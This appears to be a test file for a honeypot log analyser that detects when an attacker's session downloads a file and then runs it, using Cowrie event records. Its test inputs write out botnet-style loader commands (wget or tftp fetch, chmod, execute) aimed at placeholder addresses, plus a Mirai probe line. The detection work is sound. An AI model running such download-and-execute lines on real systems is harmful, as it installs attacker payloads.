import assert from "node:assert/strict";
import { DownloadThenRun } from "../../src/features/download-then-run";
import { heapKeptBy } from "../support/garbage-collector";

const command = (session: string, input: string) => ({ session, eventid: "cowrie.command.input", input });

describe("DownloadThenRun", () => {
  it("finds a fetch then a run in one session, once, and names what ran by its hash when Cowrie logged one", () => {
    const drops = new DownloadThenRun();
    assert.equal(drops.observe(command("a", "cd /tmp; wget http://203.0.113.9/x86")), undefined);
    assert.equal(drops.observe({ session: "a", eventid: "cowrie.session.file_download", url: "http://203.0.113.9/x86", shasum: "ab12" }), undefined);
    assert.equal(drops.observe(command("a", "chmod 777 x86")), "sha256:ab12");
    assert.equal(drops.observe(command("a", "./x86")), undefined, "the session already counted");
  });

  it("counts a failed download, an upload, and a fetch and run on one command line", () => {
    const drops = new DownloadThenRun();
    drops.observe({ session: "b", eventid: "cowrie.session.file_download.failed", url: "http://198.51.100.4:81/bins.sh" });
    assert.equal(drops.observe(command("b", "sh bins.sh")), "http://*/bins.sh");
    drops.observe({ session: "c", eventid: "cowrie.session.file_upload", shasum: "94f2" });
    assert.equal(drops.observe(command("c", "/tmp/payload")), "sha256:94f2");
    assert.equal(drops.observe(command("d", "cd /tmp || cd /var/run; /usr/bin/wget http://x/b; chmod +x b; ./b")), "wget http://x/b");
  });

  it("names one campaign's drops alike from bot to bot: addresses and ports left out", () => {
    const drops = new DownloadThenRun();
    const loader = (bot: string) => `cd /tmp || cd /var/; rm -rf i; wget http://${bot}:41075/i; chmod 777 i; ./i`;
    const names = ["116.114.95.198", "59.59.69.241"].map((bot, i) => drops.observe(command(`s${i}`, loader(bot))));
    assert.deepEqual(names, ["wget http://*/i", "wget http://*/i"]);
    assert.equal(drops.observe(command("t", "tftp -g -r mips 203.0.113.5; chmod +x mips; ./mips")), "tftp -g -r mips *");
    assert.equal(drops.observe(command("u", `wget http://x/${"a".repeat(1000)}; sh`))?.length, 256, "a name is cut");
  });

  it("keeps a name, not the attacker's whole line: 200 drops named from quarter-megabyte lines keep little alive", () => {
    const drops = new DownloadThenRun();
    const names: Array<string | undefined> = [];
    const kept = heapKeptBy(() => {
      for (let i = 0; i < 200; i++) {
        const line = `wget http://x/${i}${"a".repeat(300)}; chmod +x b; ./b #${String(i).repeat(128 * 1024)}`;
        names.push(drops.observe(command(`s${i}`, line)));
        const huge = String(i).repeat(128 * 1024);
        drops.observe({ session: `u${i}`, eventid: "cowrie.session.file_download", url: `http://x/${huge}` });
        names.push(drops.observe(command(`u${i}`, "sh b")));
        drops.observe({ session: `h${i}`, eventid: "cowrie.session.file_upload", shasum: huge });
        names.push(drops.observe(command(`h${i}`, "sh b")));
      }
    });
    assert.equal(names.filter((name) => name?.length === 256).length, 600);
    assert.ok(kept < 5 * 2 ** 20, `${(kept / 2 ** 20).toFixed(1)} MB kept`);
  });

  it("tells apart two sources' sessions of one id (events without one are all session \"unknown\" after clean; two sensors' ids can meet)", () => {
    const drops = new DownloadThenRun();
    const from = (src_ip: string, input: string, session = "unknown") => ({ ...command(session, input), src_ip });
    assert.equal(drops.observe(from("203.0.113.7", "wget http://203.0.113.9/a; chmod +x a; ./a")), "wget http://*/a");
    assert.equal(drops.observe(from("198.51.100.4", "cd /tmp; wget http://198.51.100.9/b; sh b")), "wget http://*/b", "the second source's own drop");
    drops.observe(from("192.0.2.1", "tftp -g -r m 192.0.2.9", "a1b2c3d4e5f6"));
    assert.equal(drops.observe(from("192.0.2.2", "chmod +x m; ./m", "a1b2c3d4e5f6")), undefined, "no fetch of its own");
  });

  it("does not call a shell alone, or a run in another session, a malware drop", () => {
    const drops = new DownloadThenRun();
    assert.equal(drops.observe(command("e", "enable; system; shell; sh")), undefined);
    assert.equal(drops.observe(command("p", "tftp; wget; /bin/busybox XRCUK")), undefined, "Mirai's probe fetches nothing");
    assert.equal(drops.observe(command("p", "sh")), undefined);
    assert.equal(drops.observe(command("q", "/bin/busybox wget http://192.0.2.7/m.arm7; /bin/busybox chmod 777 m.arm7")), "wget http://*/m.arm7", "busybox's applets");
    drops.observe(command("f", "wget http://x/b"));
    assert.equal(drops.observe(command("g", "chmod +x b; ./b")), undefined);
    assert.equal(drops.observe(command("f", "uname -a")), undefined);
  });
});
